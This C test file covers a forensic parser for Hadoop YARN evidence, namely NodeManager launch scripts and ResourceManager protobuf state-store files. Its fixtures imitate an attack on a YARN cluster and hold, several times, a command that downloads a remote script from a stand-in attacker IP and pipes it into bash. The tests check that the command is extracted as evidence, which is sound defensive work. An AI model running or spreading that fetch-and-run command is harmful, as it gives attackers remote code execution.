/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-parse-yarn.c - YARN evidence: a NodeManager launch_container.sh (command,
 * user, container and application ids, node, submit time, field view), and
 * ResourceManager state store files built here byte by byte in the protobuf
 * wire format (ApplicationStateDataProto and ApplicationAttemptStateDataProto
 * read by the schema; a flat message not in the schema listed by its strings;
 * truncated lengths, over-long varints and groups quarantined with the byte
 * offset), and both sniffers (content, path).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <tyto/parser.h>
#include <tyto/time.h>

#include "parse-harness.h"
#include "test.h"

extern const struct ty_parser ty_parser_yarn_launch_script;
extern const struct ty_parser ty_parser_yarn_rmstore;

static int collect(void *arg, struct ty_str name, struct ty_str value)
{
    struct ty_buf *b = arg;
    ty_buf_add(b, name.p, name.len);
    ty_buf_addc(b, '=');
    ty_buf_add(b, value.p, value.len);
    ty_buf_addc(b, ';');
    return 0;
}

static const char launch[] =
    "#!/bin/bash\n"
    "\n"
    "set -o pipefail -e\n"
    "export PRELAUNCH_OUT=\"/logs/userlogs/application_1788526338611_0035/c/prelaunch.out\"\n"
    "exec >\"${PRELAUNCH_OUT}\"\n"
    "export JAVA_HOME=${JAVA_HOME:-\"/usr/lib/jvm/java-11-openjdk-amd64\"}\n"
    "export USER=\"dr.who\"\n"
    "export NM_HOST=\"hadoop-master\"\n"
    "export CONTAINER_ID=\"container_e07_1788526338611_0035_01_000001\"\n"
    "export PWD=\"/tmp/nm-local-dir/usercache/dr.who/appcache/application_1788526338611_0035\"\n"
    "export APP_SUBMIT_TIME_ENV=\"1788833625000\"\n"
    "echo \"Launching container\"\n"
    "exec /bin/bash -c \"curl -fsSL http://198.51.100.61/y.sh | bash\"\n";

static void test_launch(void)
{
    struct h h;
    h_open(&h, &ty_parser_yarn_launch_script, launch, strlen(launch));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_WHOLE);
    CHECK_INT(h_feed_raw(&h, launch, strlen(launch)), TY_OK);
    CHECK_INT(h.n, 1);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE),
               "curl -fsSL http://198.51.100.61/y.sh | bash");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_EXE), "/bin/bash");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "dr.who");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_HOST), "hadoop-master");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_ID),
               "container_e07_1788526338611_0035_01_000001");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "application_1788526338611_0035");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "yarn-container-launch");
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1788833625000) * 1000000);
    CHECK_INT(ty_parser_yarn_launch_script.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);
    h.last.raw = ty_str_make(launch, strlen(launch));
    struct ty_buf b;
    ty_buf_init(&b, 0);
    CHECK_INT(ty_parser_yarn_launch_script.fields(&h.last, collect, &b), 0);
    CHECK(ty_str_contains(ty_buf_str(&b), "CONTAINER_ID=container_e07_1788526338611_0035_01_000001;"
                                          "USER=dr.who;"));
    CHECK(ty_str_contains(ty_buf_str(&b), "JAVA_HOME=/usr/lib/jvm/java-11-openjdk-amd64;"));
    CHECK(ty_str_contains(ty_buf_str(&b), "command=curl -fsSL"));
    ty_buf_release(&b);

    const char *none = "#!/bin/bash\nexport NM_HOST=\"x\"\nexport LOCAL_DIRS=\"/y\"\necho hi\n";
    CHECK_INT(h_feed_raw(&h, none, strlen(none)), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "neither an exec command nor a CONTAINER_ID"));
    h_close(&h);

    CHECK_INT(ty_parser_yarn_launch_script.sniff(ty_str_cstr(launch)), 85);
    CHECK_INT(ty_parser_yarn_launch_script.sniff(ty_str_cstr("#!/bin/bash\necho hi\n")), 0);
    CHECK_INT(ty_parser_yarn_launch_script.sniff(ty_str_cstr("export CONTAINER_ID=1\n")), 0);
}

/* ---- a protobuf writer for the tests ---- */

struct pbw {
    unsigned char b[4096];
    size_t n;
};

static void w_varint(struct pbw *w, uint64_t v)
{
    do {
        unsigned char c = v & 0x7f;
        v >>= 7;
        w->b[w->n++] = (unsigned char)(c | (v ? 0x80 : 0));
    } while (v);
}

static void w_int(struct pbw *w, unsigned field, uint64_t v)
{
    w_varint(w, (uint64_t)field << 3);
    w_varint(w, v);
}

static void w_bytes(struct pbw *w, unsigned field, const void *p, size_t n)
{
    w_varint(w, ((uint64_t)field << 3) | 2);
    w_varint(w, n);
    memcpy(w->b + w->n, p, n);
    w->n += n;
}

static void w_str(struct pbw *w, unsigned field, const char *s)
{
    w_bytes(w, field, s, strlen(s));
}

static void w_msg(struct pbw *w, unsigned field, const struct pbw *m)
{
    w_bytes(w, field, m->b, m->n);
}

static int feed_state(struct h *h, const char *path, const struct pbw *w)
{
    h->ctx.evidence = path;
    return h_feed_raw(h, (const char *)w->b, w->n);
}

static void test_rmstore(void)
{
    struct h h;
    struct pbw app = {{0}, 0}, id = {{0}, 0}, sub = {{0}, 0}, clc = {{0}, 0}, env = {{0}, 0};
    w_int(&id, 1, 35);
    w_int(&id, 2, UINT64_C(1788526338611));
    w_str(&env, 1, "CLASSPATH");
    w_str(&env, 2, "./*");
    w_msg(&clc, 4, &env);
    w_str(&clc, 5, "curl -fsSL http://198.51.100.61/y.sh");
    w_str(&clc, 5, "| bash");
    w_msg(&sub, 1, &id);
    w_str(&sub, 2, "get-shell");
    w_str(&sub, 3, "default");
    w_msg(&sub, 5, &clc);
    w_str(&sub, 10, "YARN");
    w_int(&app, 1, UINT64_C(1788833625000));
    w_msg(&app, 2, &sub);
    w_str(&app, 3, "dr.who");
    w_int(&app, 4, UINT64_C(1788833625100));
    w_int(&app, 5, 6);

    const char *dir = "fs/tmp/hadoop-yarn/yarn/system/rmstore/FSRMStateRoot/RMAppRoot/"
                      "application_1788526338611_0035/";
    char path[256];
    h_open(&h, &ty_parser_yarn_rmstore, (const char *)app.b, app.n);
    snprintf(path, sizeof(path), "%sapplication_1788526338611_0035", dir);
    CHECK_INT(feed_state(&h, path, &app), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "application_1788526338611_0035");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_NAME), "get-shell");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_NAMESPACE), "default");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "dr.who");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE),
               "curl -fsSL http://198.51.100.61/y.sh | bash");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "yarn-app-submit");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE),
               "YARN application type YARN, state 6; env CLASSPATH=./*");
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1788833625000) * 1000000);
    struct ty_buf b;
    ty_buf_init(&b, 0);
    CHECK_INT(ty_parser_yarn_rmstore.fields(&h.last, collect, &b), 0);
    CHECK(ty_str_contains(ty_buf_str(&b), "application_id=application_1788526338611_0035;"
                                          "name=get-shell;user=dr.who;queue=default;command="));
    CHECK(!ty_str_contains(ty_buf_str(&b), "strings="));
    ty_buf_release(&b);

    /* an attempt */
    struct pbw att = {{0}, 0}, aid = {{0}, 0}, mc = {{0}, 0}, node = {{0}, 0};
    w_msg(&aid, 1, &id);
    w_int(&aid, 2, 1);
    w_str(&node, 1, "hadoop-worker-1");
    w_int(&node, 2, 45454);
    w_msg(&mc, 2, &node);
    w_msg(&att, 1, &aid);
    w_msg(&att, 2, &mc);
    w_int(&att, 4, 3);
    w_int(&att, 7, UINT64_C(1788833626000));
    snprintf(path, sizeof(path), "%sappattempt_1788526338611_0035_000001", dir);
    CHECK_INT(feed_state(&h, path, &att), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "yarn-app-attempt");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_NAME), "appattempt_1788526338611_0035_000001");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE),
               "YARN application attempt, state 3, AM container on hadoop-worker-1");
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1788833626000) * 1000000);

    /* valid protobuf, not the schema: the strings are listed, the id from the file name */
    struct pbw flat = {{0}, 0};
    w_int(&flat, 1, UINT64_C(1788833625000));
    w_str(&flat, 2, "application_1788526338611_0035");
    w_str(&flat, 3, "get-shell");
    w_str(&flat, 6, "curl -fsSL http://198.51.100.61/y.sh | bash");
    snprintf(path, sizeof(path), "%sapplication_1788526338611_0035", dir);
    CHECK_INT(feed_state(&h, path, &flat), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "application_1788526338611_0035");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE),
               "protobuf not in the ApplicationStateDataProto layout (time: field 1 read as "
               "submit_time); its strings: "
               "application_1788526338611_0035 | get-shell | curl -fsSL "
               "http://198.51.100.61/y.sh | bash");
    CHECK_STR(h.ctx.shape, "YARN RM state store file (unknown layout)");
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1788833625000) * 1000000);
    ty_buf_init(&b, 0);
    ty_parser_yarn_rmstore.fields(&h.last, collect, &b);
    CHECK(ty_str_contains(ty_buf_str(&b), ";strings=application_1788526338611_0035 | get-shell"));
    ty_buf_release(&b);

    /* broken wire format */
    struct pbw bad = app;
    bad.n -= 3; /* the last field's value cut */
    CHECK_INT(feed_state(&h, path, &bad), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "not protobuf"));
    h.offset = 0;
    CHECK_INT(h_feed_raw(&h, "\x08\x01\x12\x05" "ab", 6), TY_ECORRUPT); /* length past the end */
    CHECK(strstr(h.err.msg, "in the field at byte 2"));
    const char over[] = "\x08\xff\xff\xff\xff\xff\xff\xff\xff\xff\x7f";
    CHECK_INT(h_feed_raw(&h, over, sizeof(over) - 1), TY_ECORRUPT);
    CHECK_INT(h_feed_raw(&h, "\x0b\x0c", 2), TY_ECORRUPT); /* a group */
    CHECK_INT(h_feed_raw(&h, "", 0), TY_ECORRUPT);
    CHECK_INT(h_feed_raw(&h, "\x00\x01", 2), TY_ECORRUPT); /* field 0 */
    h_close(&h);

    /* nesting deeper than the walker goes is still bounded */
    struct pbw deep = {{0}, 0}, tmp;
    w_str(&deep, 1, "x");
    for (int i = 0; i < 40; i++) {
        tmp = deep;
        deep.n = 0;
        w_msg(&deep, 2, &tmp);
    }
    h_open(&h, &ty_parser_yarn_rmstore, (const char *)deep.b, deep.n);
    CHECK_INT(feed_state(&h, path, &deep), TY_OK);
    h_close(&h);

    /* sniffing is by path only */
    struct ty_str head = ty_str_make((const char *)app.b, app.n);
    CHECK_INT(ty_parser_yarn_rmstore.sniff(head), 0);
    snprintf(path, sizeof(path), "%sapplication_1788526338611_0035", dir);
    CHECK_INT(ty_parser_yarn_rmstore.sniff_path(path, head), 80);
    snprintf(path, sizeof(path), "%sappattempt_1788526338611_0035_000001", dir);
    CHECK_INT(ty_parser_yarn_rmstore.sniff_path(path, head), 80);
    CHECK_INT(ty_parser_yarn_rmstore.sniff_path(path, ty_str_cstr("\x0b not protobuf")), 10);
    CHECK_INT(ty_parser_yarn_rmstore.sniff_path("RMAppRoot/application_1_2/notes.txt", head), 0);
    CHECK_INT(ty_parser_yarn_rmstore.sniff_path("x/application_1_2/application_1_2", head), 0);
    CHECK_INT(ty_parser_yarn_rmstore.sniff_path("application_1_2", head), 0);
}

void test_parse_yarn(void);
void test_parse_yarn(void)
{
    test_launch();
    test_rmstore();
    q_release();
}
